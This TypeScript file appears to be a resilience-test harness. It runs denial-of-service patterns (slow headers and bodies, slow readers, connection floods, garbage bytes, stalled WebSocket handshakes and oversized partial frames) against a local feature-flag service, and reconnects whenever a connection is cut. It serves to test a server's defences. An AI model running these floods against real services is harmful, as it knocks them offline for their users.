// What clients do to a service that they want down, each kind as many times at once as is asked for; whoever is cut
// comes again. They come from an address of their own, so that limits by address can be seen.
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

export const ATTACKS = [
  'slow-headers',
  'slow-bodies',
  'slow-readers',
  'connections',
  'garbage',
  'handshakes',
  'partial-frames',
] as const;
export type AttackKind = (typeof ATTACKS)[number];

export interface AttackOptions {
  readonly port: number;
  /** An API key, for what nobody without one can ask. */
  readonly key: string;
  /** Connections at once. */
  readonly count: number;
  readonly localAddress: string;
}

export interface Attack {
  /** Connections opened so far, and those that the other side closed. */
  readonly record: { opened: number; closed: number };
  stop(): void;
}

const TRICKLE_MS = 1000;
/** One that is refused comes again this much later. */
const AGAIN_MS = 20;
/** A mask and a payload of nearly 2 MB to come. */
const FRAME_HEAD = Buffer.from('81ff00000000001d000000000000', 'hex');
const FRAME_BYTES = 1_900_000 - 8;
const UPGRADE =
  'GET /api/v1/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

/** What one connection does once it is open; returns what it goes on to send, each second. */
type Conduct = (socket: Socket, options: AttackOptions) => string | undefined;

const conducts: { readonly [Kind in AttackKind]: Conduct } = {
  'slow-headers': (socket) => {
    socket.write('GET /api/v1/flags/a/evaluate?user_id=u HTTP/1.1\r\nHost: x\r\nX-Padding: ');
    return 'a';
  },
  'slow-bodies': (socket, { key }) => {
    socket.write(
      `POST /api/v1/evaluate HTTP/1.1\r\nHost: x\r\nX-API-Key: ${key}\r\nContent-Type: application/json\r\n`,
    );
    socket.write('Content-Length: 1000000\r\n\r\n');
    return ' ';
  },
  'slow-readers': (socket, { key }) => {
    socket.pause();
    const body = JSON.stringify({ contexts: Array.from({ length: 1000 }, (_, i) => ({ user_id: `user-${i}` })) });
    socket.write(
      `POST /api/v1/evaluate HTTP/1.1\r\nHost: x\r\nX-API-Key: ${key}\r\nContent-Type: application/json\r\n`,
    );
    socket.write(`Content-Length: ${body.length}\r\n\r\n${body}`);
    // A paused socket does not notice that it was cut; writing does.
    return '\r\n';
  },
  connections: (socket) => {
    setImmediate(() => socket.destroy());
    return undefined;
  },
  garbage: (socket) => {
    socket.write(randomBytes(4096));
    return undefined;
  },
  handshakes: (socket) => {
    socket.write(UPGRADE);
    return 'X-More: 1\r\n';
  },
  'partial-frames': (socket) => {
    socket.write(`${UPGRADE}\r\n`);
    socket.once('data', () => {
      socket.write(FRAME_HEAD);
      socket.write(Buffer.alloc(FRAME_BYTES, 97));
    });
    return undefined;
  },
};

export function startAttack(kind: AttackKind, options: AttackOptions): Attack {
  const record = { opened: 0, closed: 0 };
  const sockets = new Set<Socket>();
  let isStopped = false;

  function open(): void {
    if (isStopped) return;
    const socket = connect({ port: options.port, host: '127.0.0.1', localAddress: options.localAddress });
    let trickle: NodeJS.Timeout | undefined;
    sockets.add(socket);
    socket.on('connect', () => {
      record.opened += 1;
      const more = conducts[kind](socket, options);
      if (more !== undefined) trickle = setInterval(() => socket.write(more), TRICKLE_MS);
    });
    socket.on('error', () => {});
    socket.on('data', () => {});
    socket.on('close', () => {
      clearInterval(trickle);
      sockets.delete(socket);
      record.closed += 1;
      if (kind === 'connections') setImmediate(open);
      else setTimeout(open, AGAIN_MS);
    });
  }

  for (let i = 0; i < options.count; i++) open();
  return {
    record,
    stop() {
      isStopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
